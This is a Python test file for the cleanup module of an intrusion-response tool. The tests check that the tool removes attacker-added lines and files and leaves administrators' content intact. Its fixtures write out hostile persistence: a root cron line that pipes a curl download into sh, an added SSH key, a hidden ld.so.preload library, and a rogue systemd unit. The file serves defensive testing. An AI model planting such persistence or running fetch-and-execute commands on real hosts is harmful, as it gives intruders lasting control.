# SPDX-License-Identifier: Apache-2.0
"""Cleaning: what the actor left goes, what others have stays, and undo brings all of it back."""

import os
import stat
from dataclasses import replace

import pytest

from firedamp.context.changes import Change
from firedamp.errors import ActionError, Refused
from firedamp.events.model import ProcessKey
from firedamp.response.base import Receipt
from firedamp.response.clean import Clean
from firedamp.response.clean_units import Systemd
from firedamp.response.members import Members
from firedamp.response.packages import Packages
from firedamp.response.quarantine import Quarantine
from firedamp.response.vault import Vault

EVIL = "* * * * * root curl x | sh"
KEPT = b"17 * * * * root run-parts /etc/cron.hourly\n"
ENDED = ProcessKey(9, 9)


class Owned(Packages):
    """A package database of which the test says what is in it."""

    def __init__(self):
        super().__init__()
        self.files = set()

    def owner(self, path):
        return "pack" if path in self.files else ""


class Scene:
    """A tree of files, an action that may clean it, and what an actor did in it."""

    def __init__(self, root, host, keeper, intend, decision):
        self.root = root / "root"
        self.root.mkdir()
        self.host = host
        self.places = {}
        self.changes = []
        self.packages = Owned()
        self.vault = Vault(f"{root}/vault", max_bytes=1 << 24)
        self.guarded = {}
        self._systemctl = root / "systemctl"
        self.asked = root / "asked"
        self._systemctl.write_text(f'#!/bin/sh\necho "$@" >>{self.asked}\n')
        self._systemctl.chmod(0o755)
        (root / "booted").mkdir()
        self.action = Clean(
            Quarantine(host, self.vault, self.packages),
            self.vault,
            self.packages,
            places=lambda: self.places.get,
            systemd=Systemd(str(self._systemctl), str(root / "booted")),
        )
        self.target = host.add(10)
        self._keeper, self.intend, self._decide = keeper, intend, decision

    def file(self, name, content=b"", place="cron"):
        """A file that was there before."""
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        self.places[str(path)] = place
        return path

    def did(self, path, *lines, operation="write", process=ENDED, place="cron"):
        """The actor changed it."""
        status = os.lstat(path)
        self.changes.append(
            Change(
                process=process,
                path=str(path),
                place=place,
                operation=operation,
                device=0,
                inode=status.st_ino,
                lines=lines,
                at_ns=0,
            )
        )

    def made(self, name, *lines, place="cron"):
        """The actor made a file, and what it wrote was seen."""
        path = self.file(name, "".join(f"{line}\n" for line in lines).encode(), place)
        self.did(path, *lines, operation="create", place=place)
        return path

    @property
    def decision(self):
        return replace(self._decide(self.target, "clean"), changes=tuple(self.changes))

    def members(self):
        """The target, past the guard."""

        def guard(key):
            if key in self.guarded:
                raise Refused(self.guarded[key])

        members = Members(self.host, guard, self._keeper)
        members.admit(self.target)
        return members

    def plan(self):
        return self.action.plan(self.decision, self.members())

    def apply(self, intend=None):
        return self.action.apply(self.decision, self.members(), intend or self.intend)

    def outcomes(self, receipts):
        return [(one.outcome, one.undo.get("path", one.target)) for one in receipts]

    def undo(self, receipts, **options):
        done = [one for one in reversed(receipts) if one.outcome == "done"]
        return [self.action.undo(one, **options) for one in done]


@pytest.fixture
def scene(tmp_path, host, keeper, intend, decision):
    """Files of our own, and nobody who did anything yet."""
    return Scene(tmp_path, host, keeper, intend, decision)


def everything(root):
    """All files below, with content, mode, owner, times and, of links, where they lead."""
    found = {}
    for path in (root, *sorted(root.rglob("*"))):
        status = path.lstat()
        content = b""
        if path.is_symlink():
            content = os.readlink(path)
        elif path.is_file():
            content = path.read_bytes()
        found[str(path)] = (content, status.st_mode, status.st_uid, status.st_mtime_ns)
    return found


@pytest.mark.parametrize(
    ("name", "place"),
    [
        ("etc/crontab", "cron"),
        ("var/spool/cron/crontabs/root", "cron"),
        ("root/.ssh/authorized_keys", "ssh_keys"),
        ("root/.ssh/authorized_keys2", "ssh_keys"),
        ("etc/ld.so.preload", "preload"),
        ("root/.bashrc", "shell_profile"),
        ("etc/rc.local", "rc_local"),
        ("etc/environment", "environment"),
        ("etc/systemd/system/x.service.d/override.conf", "systemd"),
    ],
)
def test_added_line_goes_and_undo_brings_it_back(scene, name, place):
    """
    In the same file: same inode, same owner, same mode; and after undo, the same times.
    """
    path = scene.file(name, KEPT + EVIL.encode() + b"\n# end", place)
    os.chmod(path, 0o640)
    os.chown(path, 61234, 61235)
    os.utime(path, ns=(1, 2))
    os.utime(path.parent, ns=(3, 4))
    before, inode = everything(scene.root), path.stat().st_ino
    scene.did(path, EVIL, place=place)

    [receipt] = scene.apply()

    assert (receipt.outcome, receipt.target) == ("done", f"`{EVIL}` of {path}")
    assert path.read_bytes() == KEPT + b"# end"
    status = path.stat()
    assert (status.st_ino, stat.S_IMODE(status.st_mode), status.st_uid, status.st_gid) == (
        inode, 0o640, 61234, 61235,
    )  # fmt: skip
    [undone] = scene.undo([receipt])
    assert (undone.action, undone.outcome, undone.reason) == ("clean", "undone", "")
    assert everything(scene.root) == before
    assert path.stat().st_ino == inode


def test_cron_is_made_to_look(scene):
    """
    It reads a table again only if the times of the table and of its directory are others.
    """
    path = scene.file("etc/crontab", KEPT + EVIL.encode() + b"\n")
    scene.did(path, EVIL)
    os.utime(path, ns=(1, 2))
    os.utime(path.parent, ns=(3, 4))

    scene.apply()

    assert path.stat().st_mtime_ns != 2
    assert path.parent.stat().st_mtime_ns != 4


def test_plan_says_what_would_go_and_touches_nothing(scene):
    """
    Each line, each file, and what would be refused.
    """
    table = scene.file("etc/crontab", KEPT + EVIL.encode() + b"\n")
    scene.did(table, EVIL)
    keys = scene.file("k", b"a\nb\nc\n", "ssh_keys")
    scene.did(keys, "a", "b", place="ssh_keys")
    made = scene.made("etc/cron.d/x", EVIL)
    other = scene.file("etc/passwd", b"x::0:0:::\n", "accounts")
    scene.did(other, "x::0:0:::")
    before = everything(scene.root)

    words = scene.plan()

    assert words[:3] == (f"`{EVIL}` of {table}", f"2 lines of {keys}", str(made))
    assert words[3].startswith(f"not {other}: what becomes of this place (accounts)")
    assert everything(scene.root) == before


def test_keys_that_were_there_before_stay(scene):
    """
    An administrator is never locked out, for only what was added goes.
    """
    path = scene.file("k", b"ssh-ed25519 AAAA admin\nssh-ed25519 BBBB evil\n", "ssh_keys")
    scene.did(path, "ssh-ed25519 BBBB evil")

    scene.apply()

    assert path.read_bytes() == b"ssh-ed25519 AAAA admin\n"


def test_file_that_holds_nothing_else_goes_whole(scene):
    """
    Made by the actor, and nobody's line is in it.
    """
    path = scene.made("etc/cron.d/x", "# x", EVIL)
    before = everything(scene.root)

    receipts = scene.apply()

    assert scene.outcomes(receipts) == [("done", str(path))]
    assert not path.exists()
    assert [one.outcome for one in scene.undo(receipts)] == ["undone"]
    assert everything(scene.root) == before


def test_file_in_which_somebody_else_has_a_line_keeps_it(scene):
    """
    Though the actor made the file.
    """
    path = scene.made("etc/cron.d/x", EVIL)
    with path.open("ab") as file:
        file.write(KEPT)

    scene.apply()

    assert path.read_bytes() == KEPT


def test_program_that_the_actor_put_there_goes_whole(scene):
    """
    A program has no lines.
    """
    path = scene.file("etc/cron.hourly/x", b"\x7fELF\0\0\n")
    scene.did(path, operation="rename")

    assert scene.outcomes(scene.apply()) == [("done", str(path))]
    assert not path.exists()


def test_successor_of_the_actors_file_stays(scene):
    """
    It is another inode: somebody else has made it.
    """
    path = scene.made("etc/cron.d/x", EVIL)
    kept = path.with_name("y")
    path.rename(kept)
    path.write_bytes(KEPT)

    assert scene.apply() == ()
    assert path.read_bytes() == KEPT


def test_packages_file_is_never_taken(scene):
    """
    Though the actor wrote it: a package manager may be its child.
    """
    path = scene.made("etc/cron.d/x", EVIL)
    scene.packages.files.add(str(path))

    [receipt] = scene.apply()

    assert (receipt.outcome, receipt.reason) == ("refused", "it belongs to the package pack")
    assert path.exists()


def test_line_goes_from_a_packages_file(scene):
    """
    The rest is the package's.
    """
    path = scene.file("etc/crontab", KEPT + EVIL.encode() + b"\n")
    scene.packages.files.add(str(path))
    scene.did(path, EVIL)

    scene.apply()

    assert path.read_bytes() == KEPT


def test_path_that_is_not_watched_is_refused(scene):
    """
    Whatever the decision says.
    """
    path = scene.made("etc/cron.d/x", EVIL)
    scene.places.clear()

    [receipt] = scene.apply()

    assert (receipt.outcome, receipt.reason) == ("refused", "it is in no watched place")
    assert path.exists()


def test_what_a_protected_process_did_stays(scene):
    """
    It lives, and is none that may be acted on.
    """
    admin = scene.host.add(20)
    scene.guarded[admin] = "it is the login shell of a session"
    path = scene.file("etc/crontab", KEPT + EVIL.encode() + b"\nmine\n")
    scene.did(path, EVIL)
    scene.did(path, "mine", process=admin)
    other = scene.file("etc/cron.d/a", b"mine\n")
    scene.did(other, "mine", process=admin)

    receipts = scene.apply()

    assert path.read_bytes() == KEPT + b"mine\n"
    assert other.read_bytes() == b"mine\n"
    assert [one.outcome for one in receipts] == ["done", "refused"]
    assert "login shell" in receipts[1].reason
    assert admin not in scene.host.pinned


def test_author_that_may_be_acted_on_does_not_become_a_member(scene):
    """
    That it wrote a line is no reason to kill it.
    """
    other = scene.host.add(20)
    path = scene.file("etc/crontab", KEPT + EVIL.encode() + b"\n")
    scene.did(path, EVIL, process=other)
    members = scene.members()

    scene.action.apply(scene.decision, members, scene.intend)

    assert path.read_bytes() == KEPT
    assert members.keys == (scene.target,)


def test_link_in_the_files_place_is_not_followed(scene):
    """
    Nor one on the way to it.
    """
    precious = scene.root / "precious"
    precious.write_bytes(EVIL.encode() + b"\n")
    path = scene.file("etc/crontab", EVIL.encode() + b"\n")
    scene.did(path, EVIL)
    path.unlink()
    path.symlink_to(precious)
    below = scene.file("etc/cron.d/x", EVIL.encode() + b"\n")
    scene.did(below, EVIL)
    below.parent.rename(scene.root / "moved")
    (scene.root / "etc/cron.d").symlink_to(scene.root / "moved")

    scene.apply()

    assert precious.read_bytes() == EVIL.encode() + b"\n"
    assert (scene.root / "moved/x").read_bytes() == EVIL.encode() + b"\n"


def test_second_time_there_is_nothing_to_do(scene):
    """
    And undoing twice is as good as once.
    """
    path = scene.file("etc/crontab", KEPT + EVIL.encode() + b"\n")
    scene.did(path, EVIL)
    receipts = scene.apply()

    assert scene.apply() == ()
    scene.undo(receipts)
    [again] = scene.undo(receipts)

    assert again.outcome == "undone"
    assert path.read_bytes() == KEPT + EVIL.encode() + b"\n"


def test_undo_keeps_what_came_since_and_asks_first(scene):
    """
    Without --force nothing is touched; with it, both are there.
    """
    path = scene.file("etc/crontab", EVIL.encode() + b"\n" + KEPT)
    scene.did(path, EVIL)
    receipts = scene.apply()
    with path.open("ab") as file:
        file.write(b"new\n")

    [refused] = scene.undo(receipts)
    assert (refused.outcome, path.read_bytes()) == ("refused", KEPT + b"new\n")
    assert "--force" in refused.reason

    [forced] = scene.undo(receipts, force=True)
    assert (forced.outcome, path.read_bytes()) == (
        "undone",
        EVIL.encode() + b"\n" + KEPT + b"new\n",
    )


def test_undo_makes_a_file_anew_only_when_forced(scene):
    """
    Somebody took it away since, and may have had reasons.
    """
    path = scene.file("etc/crontab", KEPT + EVIL.encode() + b"\n")
    scene.did(path, EVIL)
    receipts = scene.apply()
    path.unlink()

    assert [one.outcome for one in scene.undo(receipts)] == ["refused"]
    assert not path.exists()
    assert [one.outcome for one in scene.undo(receipts, force=True)] == ["undone"]
    assert path.read_bytes() == KEPT + EVIL.encode() + b"\n"


@pytest.mark.parametrize("what", ["lines", "file"])
def test_nothing_happens_that_was_not_written_down(scene, what):
    """
    A ledger that cannot be written stops it.
    """
    path = scene.made("etc/cron.d/x", EVIL)
    if what == "lines":
        path.write_bytes(KEPT + path.read_bytes())
    before = everything(scene.root)

    def refuse(target, undo):
        raise ActionError("the ledger cannot be written")

    [receipt] = scene.apply(refuse)

    assert receipt.outcome == "failed"
    assert everything(scene.root) == before


def test_preloaded_library_goes_with_its_line(scene, tmp_path):
    """
    Where it lies in a doubtful place, is a library, and no package's.
    """
    library = tmp_path / ".x" / "libhide.so"
    library.parent.mkdir()
    library.write_bytes(b"\x7fELF...")
    path = scene.file("etc/ld.so.preload", f"/usr/lib/good.so\n{library}\n".encode(), "preload")
    scene.did(path, str(library), place="preload")

    words, receipts = scene.plan(), scene.apply()

    assert words == (f"`{library}` of {path}", str(library))
    assert scene.outcomes(receipts) == [("done", str(path)), ("done", str(library))]
    assert path.read_bytes() == b"/usr/lib/good.so\n"
    assert not library.exists()
    assert [one.outcome for one in scene.undo(receipts)] == ["undone", "undone"]
    assert library.read_bytes() == b"\x7fELF..."


@pytest.mark.parametrize("why", ["no library", "package", "ordinary place"])
def test_file_that_a_preload_line_only_names_stays(scene, tmp_path, monkeypatch, why):
    """
    Else a line would be enough to be rid of any file.
    """
    library = tmp_path / ".x" / "f"
    library.parent.mkdir()
    library.write_bytes(b"\x7fELF" if why != "no library" else b"keys")
    if why == "package":
        scene.packages.files.add(str(library))
    if why == "ordinary place":
        monkeypatch.setattr("firedamp.response.clean_finds.doubts_about", lambda _: ())
    path = scene.file("etc/ld.so.preload", f"keep\n{library}\n".encode(), "preload")
    scene.did(path, str(library), place="preload")

    receipts = scene.apply()

    assert scene.outcomes(receipts) == [("done", str(path))]
    assert library.exists()


def test_unit_goes_with_its_links_and_comes_back(scene):
    """
    Links are made by systemd itself when it is asked to enable a unit; they are the unit's.
    """
    unit = scene.made(
        "etc/systemd/system/x.service", "[Service]", "ExecStart=/tmp/x", place="systemd"
    )
    wants = scene.root / "etc/systemd/system/multi-user.target.wants"
    wants.mkdir()
    link = wants / "x.service"
    link.symlink_to("/etc/systemd/system/x.service")
    other = wants / "y.service"
    other.symlink_to("/etc/systemd/system/y.service")
    scene.places[str(link)] = scene.places[str(other)] = "systemd"
    before = everything(scene.root)

    receipts = scene.apply()

    assert scene.outcomes(receipts) == [("done", str(link)), ("done", str(unit))]
    assert not unit.exists()
    assert not link.is_symlink()
    assert other.is_symlink()
    assert [one.outcome for one in scene.undo(receipts)] == ["undone", "undone"]
    assert everything(scene.root) == before


@pytest.mark.parametrize(
    ("path", "asked"),
    [
        ("/etc/systemd/system/x.service", ["--no-block stop -- x.service", "daemon-reload"]),
        ("/etc/systemd/system/x.service.d/y.conf", ["daemon-reload"]),
        ("/srv/root/etc/systemd/system/x.service", []),
        ("/root/.config/systemd/user/x.service", []),
    ],
)
def test_systemd_is_asked_about_its_own_units_alone(tmp_path, path, asked):
    """
    A tree that only looks like a host is none of its.
    """
    said, command = tmp_path / "said", tmp_path / "systemctl"
    command.write_text(f'#!/bin/sh\necho "$@" >>{said}\n')
    command.chmod(0o755)
    systemd = Systemd(str(command), str(tmp_path))

    systemd.stop(path)
    systemd.reload(path)

    assert (said.read_text().splitlines() if said.exists() else []) == asked


def test_nothing_is_asked_where_systemd_does_not_run(tmp_path):
    """
    A container has none.
    """
    assert Systemd("/bin/false", str(tmp_path / "none")).reload("/etc/systemd/system/x") == ""
    assert Systemd("/bin/false", str(tmp_path)).reload("/etc/systemd/system/x") != ""


@pytest.mark.parametrize(
    ("name", "torn"),
    [("lines", None), ("file", None), ("link", None), ("lines", 0), ("lines", 5), ("lines", 25)],
)
def test_step_that_was_cut_off_is_finished_or_rolled_back(scene, intents, name, torn):
    """
    The ledger knows what was begun; the file shows how far it came.
    """
    whole, cleaned = KEPT + EVIL.encode() + b"\n# end\n", KEPT + b"# end\n"
    path = left_behind(scene, name, whole)
    before = everything(scene.root)

    def die(target, undo):
        scene.intend(target, undo)
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        scene.apply(die)
    if torn is not None:
        at = len(KEPT) + torn
        path.write_bytes((cleaned[:at] + whole[at:]) if at < len(cleaned) else cleaned)
    intent = Receipt(action="clean", outcome="intended", target="t", undo=intents[0][1])

    result = scene.action.finish(intent)

    assert (result.action, result.outcome) == ("clean", "done" if torn else "failed")
    if torn:
        assert path.read_bytes() == cleaned
        assert [one.outcome for one in scene.undo([result])] == ["undone"]
    assert {path: facts[:3] for path, facts in everything(scene.root).items()} == {
        path: facts[:3] for path, facts in before.items()
    }


@pytest.mark.parametrize("name", ["lines", "file", "link"])
def test_step_of_which_only_the_outcome_is_missing_is_done(scene, intents, name):
    """
    The daemon died after the change, and before it could say so.
    """
    whole = KEPT + EVIL.encode() + b"\n# end\n"
    path = left_behind(scene, name, whole)
    before = everything(scene.root)
    scene.apply()
    gone = everything(scene.root)
    intent = Receipt(action="clean", outcome="intended", target="t", undo=intents[0][1])

    result = scene.action.finish(intent)

    assert result.outcome == "done"
    assert everything(scene.root).keys() == gone.keys()
    assert name != "lines" or path.read_bytes() == KEPT + b"# end\n"
    assert [one.outcome for one in scene.undo([result])] == ["undone"]
    assert everything(scene.root).keys() == before.keys()


def left_behind(scene, name, whole):
    """Something that the actor did, of one kind."""
    if name == "lines":
        path = scene.file("etc/crontab", whole)
        scene.did(path, EVIL)
    elif name == "file":
        path = scene.made("etc/cron.d/x", EVIL)
    else:
        path = scene.file("etc/rc2.d/S01x")
        path.unlink()
        path.symlink_to("/etc/init.d/x")
        scene.did(path, operation="link")
    return path
